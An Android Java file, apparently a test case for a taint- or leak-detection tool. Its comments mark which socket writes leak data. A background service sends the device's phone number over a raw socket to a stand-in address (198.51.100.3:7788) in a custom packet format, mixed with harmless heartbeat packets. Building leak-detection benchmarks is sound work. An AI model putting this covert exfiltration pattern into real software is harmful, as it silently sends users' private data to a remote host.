package olden;

import android.app.*;
import android.content.*;
import android.os.*;
import android.telephony.*;

import java.io.*;
import java.net.*;
import java.nio.*;

/** A protocol of its own over a raw socket. */
public class Packets extends Service {
    static class Packet {
        short type;
        int len;
        byte[] body;

        Packet(int t, String b) throws UnsupportedEncodingException {
            type = (short) t;
            body = b.getBytes("UTF-8");
            len = body.length;
        }

        byte[] pack() {
            ByteBuffer bb = ByteBuffer.allocate(6 + len);
            bb.order(ByteOrder.BIG_ENDIAN);
            bb.putShort(type);
            bb.putInt(len);
            bb.put(body);
            return bb.array();
        }
    }

    private Socket s;
    private OutputStream out;

    public IBinder onBind(Intent i) {
        return null;
    }

    public int onStartCommand(Intent i, int f, int id) {
        new Thread(
                        new Runnable() {
                            public void run() {
                                loop();
                            }
                        })
                .start();
        return START_STICKY;
    }

    void loop() {
        try {
            s = new Socket();
            s.connect(new InetSocketAddress("198.51.100.3", 7788), 5000);
            out = s.getOutputStream();
            Packet login =
                    new Packet(1, ((TelephonyManager) getSystemService("phone")).getLine1Number());
            Packet beat = new Packet(2, "beat");
            out.write(login.pack()); // leak
            out.write(beat.pack()); // no leak
            DataOutputStream d = new DataOutputStream(new BufferedOutputStream(out));
            d.writeShort(beat.type);
            d.writeInt(beat.len);
            d.write(beat.body, 0, beat.len); // no leak
            d.write(login.body, 0, login.len); // leak
        } catch (Exception e) {
            stopSelf();
        }
    }
}
